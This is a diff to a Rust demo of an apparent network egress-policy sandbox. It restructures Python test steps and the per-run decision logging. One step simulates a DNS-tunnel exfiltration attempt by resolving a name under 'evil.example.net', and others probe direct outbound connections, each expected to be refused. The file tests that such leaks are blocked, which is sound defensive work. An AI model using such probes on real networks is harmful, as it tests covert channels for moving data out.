@@ -9,7 +9,7 @@ use anyhow::{Result, bail};
 use serde_json::Value;
 use std::collections::BTreeMap;
 use std::io::IsTerminal;
-use std::path::Path;
+use std::path::{Path, PathBuf};
 use std::process::ExitCode;
 use std::time::Duration;
 
@@ -89,10 +89,10 @@ const STEPS: &[Step] = &[
         command: &[
             "python3",
             "-c",
-            "import socket\n\
-             host = 'internal-data.example.corp'\n\
-             print(sorted({a[4][0] for a in socket.getaddrinfo(host, 443)}))\n\
-             print(socket.getfqdn(host))",
+            r#"import socket
+host = "internal-data.example.corp"
+print(sorted({a[4][0] for a in socket.getaddrinfo(host, 443)}))
+print(socket.getfqdn(host))"#,
         ],
         expect: ("backend-canonical-host.example.corp", true),
         explanation: "getaddrinfo gives the real address; getfqdn gives the name that Kerberos \
@@ -103,9 +103,11 @@ const STEPS: &[Step] = &[
         command: &[
             "python3",
             "-c",
-            "import socket\n\
-             try:\n    print(socket.getaddrinfo('x.tunnel.evil.example.net', 443))\n\
-             except OSError as e:\n    print('refused:', e)",
+            r#"import socket
+try:
+    print(socket.getaddrinfo("x.tunnel.evil.example.net", 443))
+except OSError as e:
+    print("refused:", e)"#,
         ],
         expect: ("refused:", true),
         explanation: "A DNS tunnel would send its data as names like this one. It gets no \
@@ -116,11 +118,12 @@ const STEPS: &[Step] = &[
         command: &[
             "python3",
             "-c",
-            "import socket, time\n\
-             begin = time.monotonic()\n\
-             try:\n    socket.create_connection(('203.0.113.90', 443), 5); print('connected')\n\
-             except OSError as e:\n    print('refused:', e, \
-             'after %.1f ms' % ((time.monotonic() - begin) * 1000))",
+            r#"import socket, time
+begin = time.monotonic()
+try:
+    socket.create_connection(("203.0.113.90", 443), 5); print("connected")
+except OSError as e:
+    print("refused:", e, "after %.1f ms" % ((time.monotonic() - begin) * 1000))"#,
         ],
         expect: ("refused: [Errno 111]", true),
         explanation: "Connection refused, at connect(), at once. There is no route out of the \
@@ -131,9 +134,9 @@ const STEPS: &[Step] = &[
         command: &[
             "python3",
             "-c",
-            "import socket\n\
-             s = socket.create_connection(('ssh.example.com', 22), 5)\n\
-             print(s.recv(100).decode().strip())",
+            r#"import socket
+s = socket.create_connection(("ssh.example.com", 22), 5)
+print(s.recv(100).decode().strip())"#,
         ],
         expect: ("SSH-2.0-portcullis_testkit", true),
         explanation: "No proxy, no TLS, no Host header: the name that gave this address out and \
@@ -173,7 +176,7 @@ fn show(portcullis: &Path, paint: &Paint) -> Result<bool> {
     );
     let world = World::start(WorldSpec::standard().demo_helper(portcullis))?;
     let policy = world.file("policy.toml", POLICY);
-    let log = world.home().join("decisions.jsonl");
+    let mut logs = Vec::new();
 
     println!();
     println!("{}", paint.bold("The policy (policy.toml)"));
@@ -191,12 +194,14 @@ fn show(portcullis: &Path, paint: &Paint) -> Result<bool> {
             shown(step.command)
         );
         let mut command = world.command(portcullis);
+        let log = world.home().join(format!("decisions-{number}.jsonl"));
         command
-            .args(["run", "--quiet", "--policy"])
+            .args(["run", "--policy"])
             .arg(&policy)
             .arg("--log")
             .arg(&log)
             .arg("--");
+        logs.push(log);
         command.args(step.command);
         let done = exec::run(&mut command, STEP_LIMIT)?;
         let text = done.out() + &done.err();
@@ -207,9 +212,9 @@ fn show(portcullis: &Path, paint: &Paint) -> Result<bool> {
         explain(step, &done, expected, paint);
     }
     println!();
-    summarise_queries(&world, paint);
+    let leaked = summarise_queries(&world, paint);
     println!();
-    summarise_records(&log, paint);
+    summarise_records(&logs, paint);
     println!();
     println!("{good} of {} steps showed what they should.", STEPS.len());
     let complaints = world.complaints();
@@ -217,7 +222,7 @@ fn show(portcullis: &Path, paint: &Paint) -> Result<bool> {
         println!("The world's own processes complained:");
         print_block(&complaints);
     }
-    Ok(good == STEPS.len() && world.times_asked("evil.example.net") == 0)
+    Ok(good == STEPS.len() && !leaked)
 }
 
 fn explain(step: &Step, done: &Finished, expected: bool, paint: &Paint) {
@@ -232,7 +237,8 @@ fn explain(step: &Step, done: &Finished, expected: bool, paint: &Paint) {
     }
 }
 
-fn summarise_queries(world: &World, paint: &Paint) {
+/// Returns whether a name left the host that no rule lists.
+fn summarise_queries(world: &World, paint: &Paint) -> bool {
     println!(
         "{}",
         paint.bold("What the DNS server outside was asked, by its own log")
@@ -251,14 +257,18 @@ fn summarise_queries(world: &World, paint: &Paint) {
         "Nothing of evil.example.net is among them.".to_owned()
     };
     println!("  = {line}");
+    leaked
 }
 
-fn summarise_records(log: &Path, paint: &Paint) {
+fn summarise_records(logs: &[PathBuf], paint: &Paint) {
     println!(
         "{}",
-        paint.bold("What the decision log says (--log decisions.jsonl)")
+        paint.bold("What the decision records say (each run had --log FILE)")
     );
-    let text = std::fs::read_to_string(log).unwrap_or_default();
+    let text: String = logs
+        .iter()
+        .map(|log| std::fs::read_to_string(log).unwrap_or_default())
+        .collect();
     let mut rows: BTreeMap<[String; 4], u64> = BTreeMap::new();
     for record in text
         .lines()
